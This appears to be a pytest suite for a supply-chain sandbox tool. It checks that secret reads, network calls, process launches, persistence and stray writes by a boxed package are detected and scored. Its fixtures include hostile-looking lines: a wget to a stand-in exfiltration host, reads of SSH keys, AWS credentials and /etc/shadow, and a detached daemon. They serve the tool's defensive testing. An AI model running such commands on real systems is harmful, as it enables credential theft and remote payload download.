"""Behaviour evidence of one boxed step: decoy reads seen from the host (whoever reads), and
the attempts the audit hooks record, through the real runner and real bubblewrap."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from pytest_spike._core import behaviour, runner, sandbox
from pytest_spike.model import Severity

pytestmark = pytest.mark.skipif(
    not sandbox.status(sandbox.Policy()).boxed,
    reason=f"no box here: {sandbox.status(sandbox.Policy()).reason}",
)


def boxed(code: str, stage: str = "import", **kwargs: object) -> runner.RunResult:
    return runner.run([sys.executable, "-c", code], timeout=60, box=sandbox.Box(stage), **kwargs)  # type: ignore[arg-type]


def test_a_decoy_read_by_c_code_is_seen_from_the_host() -> None:
    # cat, started through a shell: no Python frame reads the file, the host still sees it.
    done = runner.run(
        ["/bin/sh", "-c", "cat ~/.ssh/id_rsa ~/.netrc >/dev/null"], timeout=60, box=sandbox.Box("readme")
    )
    assert done.ok, done.stderr
    assert sorted(done.decoys_read) == [".netrc", ".ssh/id_rsa"]


def test_a_step_that_reads_nothing_reads_no_decoy_and_tries_nothing() -> None:
    done = boxed("import os, json; os.listdir(os.path.expanduser('~')); json.dumps({})")
    assert done.ok, done.stderr
    assert done.decoys_read == ()
    assert done.behaviour is not None and done.behaviour.attempts == []
    assert behaviour.summary([done.behaviour]) == "import: 0 attempts"


def test_attempts_are_recorded_with_the_frame_that_made_them(tmp_path: Path) -> None:
    module = tmp_path / "nosy.py"
    module.write_text(
        "import os, socket, subprocess, ctypes.util\n"
        "def go():\n"
        "    try:\n"
        "        socket.create_connection(('127.0.0.1', 9), timeout=1)\n"
        "    except OSError:\n"
        "        pass\n"
        "    try:\n"
        "        socket.getaddrinfo('spike-exfil.invalid', 443)\n"
        "    except OSError:\n"
        "        pass\n"
        "    subprocess.run(['uname', '-s'], stdout=subprocess.DEVNULL)\n"
        "    os.system('wget -q http://spike-exfil.invalid/x')\n"
        "    try:\n"
        f"        open({str(tmp_path / 'planted.py')!r}, 'w')\n"
        "    except OSError:\n"
        "        pass\n"
        "    open('/tmp/fine.txt', 'w').close()\n"
    )
    done = boxed("import nosy; nosy.go()", extra_env={"PYTHONPATH": str(tmp_path)})
    assert done.ok, done.stderr
    assert done.behaviour is not None
    seen = {(a.kind, a.what): a for a in done.behaviour.attempts}
    assert seen[("network", "127.0.0.1:9")].by == f"{module}:4"
    assert ("network", "lookup spike-exfil.invalid") in seen
    assert ("exec", "uname") in seen
    assert seen[("exec", "/bin/sh")].command == "wget -q http://spike-exfil.invalid/x"
    assert ("write", str(tmp_path / "planted.py")) in seen
    assert ("write", "/tmp/fine.txt") not in seen  # the box's own /tmp
    # Scored: the wget through a shell and the connect are high at import, uname is info.
    scored = {(f.code, f.evidence["what"]): f.severity for f in behaviour.findings([done.behaviour])}
    assert scored[("behaviour.exec", "/bin/sh")] is Severity.HIGH
    assert scored[("behaviour.exec", "uname")] is Severity.INFO
    assert scored[("behaviour.network", "127.0.0.1:9")] is Severity.HIGH
    assert scored[("behaviour.writes", str(tmp_path / "planted.py"))] is Severity.HIGH
    # In a README example the same connect is info: examples may want the network.
    readme = behaviour.Behaviour("readme", attempts=done.behaviour.attempts)
    assert {f.severity for f in behaviour.findings([readme]) if f.code == "behaviour.network"} == {
        Severity.INFO
    }


def test_what_healthy_code_does_at_import_is_info_at_most() -> None:
    # ctypes.util.find_library runs ldconfig (and maybe gcc); platform runs uname-like tools.
    done = boxed("import ctypes.util, platform; ctypes.util.find_library('c'); platform.architecture()")
    assert done.ok, done.stderr
    assert done.behaviour is not None
    assert {f.severity for f in behaviour.findings([done.behaviour])} <= {Severity.INFO}


def test_a_daemon_left_running_is_persistence() -> None:
    code = (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(30)\n"
        "    os._exit(0)\n"
        "os.wait(); time.sleep(0.2)\n"
    )
    done = boxed(code)
    assert done.ok and done.duration_s < 20, done.stderr
    assert done.behaviour is not None
    assert [a.kind for a in done.behaviour.attempts] == ["persistence"]
    (finding,) = behaviour.findings([done.behaviour])
    assert finding.code == "behaviour.persistence" and finding.severity is Severity.HIGH


def test_the_environments_own_sitecustomize_still_runs(tmp_path: Path) -> None:
    (tmp_path / "sitecustomize.py").write_text("import os\nos.environ['OWN_SITECUSTOMIZE'] = 'ran'\n")
    done = boxed(
        "import os, sys, sitecustomize; print(os.environ.get('OWN_SITECUSTOMIZE'), sitecustomize.__file__,"
        " any('_boot' in p for p in sys.path))",
        extra_env={"PYTHONPATH": str(tmp_path)},
    )
    assert done.ok, done.stderr
    assert done.stdout.split() == ["ran", str(tmp_path / "sitecustomize.py"), "False"]


def test_recording_collects_each_boxed_step_and_keeps_nested_steps_apart() -> None:
    with behaviour.recording() as outer:
        boxed("pass", stage="import")
        with behaviour.recording() as inner:
            runner.run(["/bin/sh", "-c", "cat ~/.pypirc"], timeout=60, box=sandbox.Box("install"))
    assert [s.stage for s in outer] == ["import"]
    assert [(s.stage, s.decoys_read) for s in inner] == [("install", [".pypirc"])]
    assert behaviour.summary(inner) == "install: no network, secrets (~/.pypirc)"


def test_the_summary_says_when_setup_code_ran() -> None:
    built = behaviour.Behaviour("install", network=True, ran_setup=True)
    assert behaviour.summary([built, behaviour.Behaviour("import")]) == (
        "install: ran setup code, no network, no secrets; import: 0 attempts"
    )
    assert behaviour.Behaviour.from_dict(built.to_dict()) == built


def test_a_tool_reading_its_own_configuration_is_info() -> None:
    # git reads ~/.gitconfig on every call (setuptools-scm at build time, pytest-benchmark).
    done = runner.run(
        ["/bin/sh", "-c", "cat ~/.gitconfig >/dev/null"], timeout=60, box=sandbox.Box("upstream")
    )
    assert done.behaviour is not None and done.decoys_read == (".gitconfig",)
    assert [f.severity for f in behaviour.findings([done.behaviour])] == [Severity.CRITICAL]
    with_git = behaviour.Behaviour(
        "install",
        decoys_read=[".gitconfig"],
        attempts=[behaviour.Attempt("exec", "git", command="git describe")],
    )
    secrets = [f for f in behaviour.findings([with_git]) if f.code == "behaviour.secrets"]
    assert [f.severity for f in secrets] == [Severity.INFO] and "ran git" in secrets[0].message
    # requests reads ~/.netrc for every request: in an upstream test that is info, at import not.
    netrc = {
        stage: behaviour.findings([behaviour.Behaviour(stage, decoys_read=[".netrc"])])[0].severity
        for stage in ("upstream", "import")
    }
    assert netrc == {"upstream": Severity.INFO, "import": Severity.CRITICAL}


def test_reads_of_secrets_are_recorded_with_who_and_hidden_ones_are_reads(tmp_path: Path) -> None:
    # The decoy read from Python gets its frame; a read aimed at the host's HOME, at the
    # project's masked .env and at /etc/shadow is a read outside the box; a module, a data file
    # of the box's own HOME and a virtual environment named .env are none of that.
    project = tmp_path / "project"
    project.mkdir()
    venv = tmp_path / "envs" / ".env"  # a virtual environment named .env: not a secret
    venv.mkdir(parents=True)
    (venv / "mod.py").write_text("X = 1\n")
    module = tmp_path / "nosy.py"
    module.write_text(
        "import os\n"
        "def go(project):\n"
        "    open(os.path.expanduser('~/.aws/credentials')).read()\n"
        "    for path in ('/root/.ssh/id_rsa', '/home/runner/.config/gh/hosts.yml', '/etc/shadow',\n"
        "                 '/etc/ssl/private/server.key', project + '/.git/config',\n"
        "                 project + '/.netrc'):\n"
        "        try:\n"
        "            open(path).read()\n"
        "        except OSError:\n"
        "            pass\n"
        f"    open({str(venv / 'mod.py')!r}).read()\n"
        "    os.makedirs(os.path.expanduser('~/.config/nosy'), exist_ok=True)\n"
        "    open(os.path.expanduser('~/.config/nosy/settings.ini'), 'w').close()\n"
        "    open(os.path.expanduser('~/.config/nosy/settings.ini')).read()\n"
    )
    done = runner.run(
        [sys.executable, "-c", f"import nosy; nosy.go({str(project)!r})"],
        timeout=60,
        box=sandbox.Box("import", project=str(project)),
        extra_env={"PYTHONPATH": str(tmp_path)},
    )
    assert done.ok, done.stderr
    assert done.behaviour is not None
    reads = {a.what: a.by for a in done.behaviour.attempts if a.kind == "read"}
    assert reads == {
        "~/.aws/credentials": f"{module}:3",
        "/root/.ssh/id_rsa": f"{module}:8",
        "/home/runner/.config/gh/hosts.yml": f"{module}:8",
        "/etc/shadow": f"{module}:8",
        "/etc/ssl/private/server.key": f"{module}:8",
        f"{project}/.git/config": f"{module}:8",
        f"{project}/.netrc": f"{module}:8",
    }
    scored = {(f.code, f.evidence["what"]): f for f in behaviour.findings([done.behaviour])}
    secret = scored[("behaviour.secrets", "~/.aws/credentials")]
    assert secret.severity is Severity.CRITICAL and secret.evidence["by"] == f"{module}:3"
    assert scored[("behaviour.reads", "/root/.ssh/id_rsa")].severity is Severity.HIGH
    assert "outside the box" in scored[("behaviour.reads", "/etc/shadow")].message
    assert behaviour.summary([done.behaviour]) == "import: no network, secrets (~/.aws/credentials), 6 read"
    # In a README example a read outside the box is info (dotenv's examples read .env).
    readme = behaviour.Behaviour("readme", attempts=done.behaviour.attempts)
    assert {f.severity for f in behaviour.findings([readme]) if f.code == "behaviour.reads"} == {
        Severity.INFO
    }


def test_the_installers_own_netrc_read_is_info() -> None:
    # pip and uv read ~/.netrc for the index's credentials in an installer step.
    step = behaviour.Behaviour(
        "install", network=True, attempts=[behaviour.Attempt("read", "~/.netrc", "x.py:1")]
    )
    (finding,) = behaviour.findings([step])
    assert finding.code == "behaviour.secrets" and finding.severity is Severity.INFO
    assert "index's credentials" in finding.message


def test_in_your_tests_stage_only_the_candidates_frames_count() -> None:
    # Your test ran uname and read a decoy itself; the candidate's code connected somewhere.
    env = "/cache/envs/abc"
    step = behaviour.Behaviour(
        "tests",
        decoys_read=[".aws/credentials"],
        attempts=[
            behaviour.Attempt("exec", "uname", "/project/tests/test_x.py:3"),
            behaviour.Attempt("network", "10.0.0.1:443", f"{env}/lib/python3.12/site-packages/cand/net.py:9"),
            behaviour.Attempt("persistence", "pid 7: sleep 30"),
        ],
    )
    (mine,) = behaviour.attributed([step], [env])
    assert [a.kind for a in mine.attempts] == ["network", "persistence"]
    scored = {f.code: f for f in behaviour.findings([mine])}
    assert scored["behaviour.network"].severity is Severity.INFO
    assert scored["behaviour.persistence"].severity is Severity.HIGH
    # Seen only from the host (no frame of the candidate's): info, and it says why.
    assert scored["behaviour.secrets"].severity is Severity.INFO
    assert "no frame of the candidate's" in scored["behaviour.secrets"].message
    # The candidate's own frame read it: critical.
    read = behaviour.Attempt("read", "~/.aws/credentials", f"{env}/lib/python3.12/site-packages/cand/x.py:1")
    (theirs,) = behaviour.attributed([behaviour.Behaviour("tests", attempts=[read])], [env])
    assert [f.severity for f in behaviour.findings([theirs])] == [Severity.CRITICAL]


def test_pytest_caching_the_bytecode_of_a_plugin_it_rewrote_is_not_the_candidates_doing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Upstream's harness (pytest-cov, say) sits read-only in the box; pytest rewrites the
    # asserts of every plugin it loads and tries to keep the bytecode beside it.
    monkeypatch.delenv("PYTHONDONTWRITEBYTECODE", raising=False)
    plugins = tmp_path / "harness"
    plugins.mkdir()
    (plugins / "spike_harness_plugin.py").write_text("def pytest_configure(config):\n    assert config\n")
    (plugins / "__pycache__").mkdir()  # installers compile what they install: the folder is there
    tests = tmp_path / "run"
    tests.mkdir()
    (tests / "test_one.py").write_text("def test_one():\n    assert 1\n")
    (tests / "pytest.ini").write_text("[pytest]\n")
    done = runner.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-p", "spike_harness_plugin"],
        timeout=120,
        cwd=tests,
        box=sandbox.Box("upstream", write=(str(tests),)),
        extra_env={"PYTHONPATH": str(plugins), "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1"},
    )
    assert done.ok, done.stdout + done.stderr
    assert done.behaviour is not None
    writes = [a for a in done.behaviour.attempts if a.kind == "write"]
    assert [Path(a.what).parent for a in writes] == [plugins / "__pycache__"], writes
    assert "_pytest/assertion/rewrite.py:" in writes[0].by
    [finding] = [f for f in behaviour.findings([done.behaviour]) if f.code == "behaviour.writes"]
    assert finding.severity is Severity.INFO
    assert finding.message.startswith("upstream: pytest tried to cache the bytecode of a module it rewrote")
    # The same write from the candidate's own code is high.
    own = behaviour.Attempt("write", writes[0].what, by=f"{plugins}/spike_harness_plugin.py:2")
    scored = behaviour.findings([behaviour.Behaviour("upstream", attempts=[own])])
    assert [f.severity for f in scored] == [Severity.HIGH]


def test_the_import_system_keeping_bytecode_is_nobodys_doing_a_loader_of_ones_own_is(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A module the build left uncompiled (pygments' lexers), read-only in the box: importing
    # it, Python tries to keep its bytecode in the __pycache__ beside it. Without
    # PYTHONDONTWRITEBYTECODE that was a "write outside the box" at every import (pygments'
    # own documentation: 492 of them, HIGH). A loader of the candidate's own making writing
    # the same file, or its code writing it, is still recorded.
    monkeypatch.delenv("PYTHONDONTWRITEBYTECODE", raising=False)
    lib = tmp_path / "lib"
    (lib / "__pycache__").mkdir(parents=True)  # the build compiled the package's other modules
    (lib / "uncompiled.py").write_text("X = 1\n")
    (lib / "other.py").write_text("Y = 2\n")
    module = tmp_path / "nosy.py"
    module.write_text(
        "import importlib.machinery, importlib.util, sys\n"
        "def go(lib):\n"
        "    import uncompiled\n"
        "    class Mine(importlib.machinery.SourceFileLoader):\n"
        "        pass\n"
        "    Mine('other', lib + '/other.py').get_code('other')\n"
        "    try:\n"
        "        open(importlib.util.cache_from_source(lib + '/uncompiled.py') + '.1', 'wb')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    done = boxed(
        f"import nosy; nosy.go({str(lib)!r})", extra_env={"PYTHONPATH": f"{tmp_path}{os.pathsep}{lib}"}
    )
    assert done.ok, done.stderr
    assert done.behaviour is not None
    writes = sorted(
        (Path(a.what).name.split(".")[0], a.by) for a in done.behaviour.attempts if a.kind == "write"
    )
    assert writes == [("other", f"{module}:6"), ("uncompiled", f"{module}:8")]
    assert not (lib / "__pycache__").exists() or not any((lib / "__pycache__").iterdir())


def test_pytests_bytecode_caches_are_one_finding_a_stage_and_not_counted_as_writes() -> None:
    # pytest tries it for every module of every plugin it rewrote (xdist: dozens): one info
    # finding a stage with the count, not one a file, and the summary counts none of them.
    env = "/cache/envs/abc/lib/python3.11/site-packages"
    rewriter = f"{env}/_pytest/assertion/rewrite.py:317"
    cached = [
        behaviour.Attempt("write", f"{env}/xdist/__pycache__/{name}.cpython-311-pytest-9.2.0.pyc.2", rewriter)
        for name in ("__init__", "plugin", "remote", "plugin")
    ]
    planted = behaviour.Attempt("write", f"{env}/requests/__init__.py", f"{env}/cand/x.py:3")
    step = behaviour.Behaviour("upstream", attempts=[*cached, planted])
    writes = sorted(
        (f.severity.value, f.evidence.get("count", ""), f.message)
        for f in behaviour.findings([step])
        if f.code == "behaviour.writes"
    )
    assert writes == [
        (
            "high",
            "",
            f"upstream: tried to write {env}/requests/__init__.py, outside its environment and temp folder ({env}/cand/x.py:3)",
        ),
        (
            "info",
            "3",
            f"upstream: pytest tried to cache the bytecode of 3 modules it rewrote ({cached[0].what}, ...); "
            "the box refused it",
        ),
    ]
    assert behaviour.summary([step]) == "upstream: no network, no secrets, 1 write"
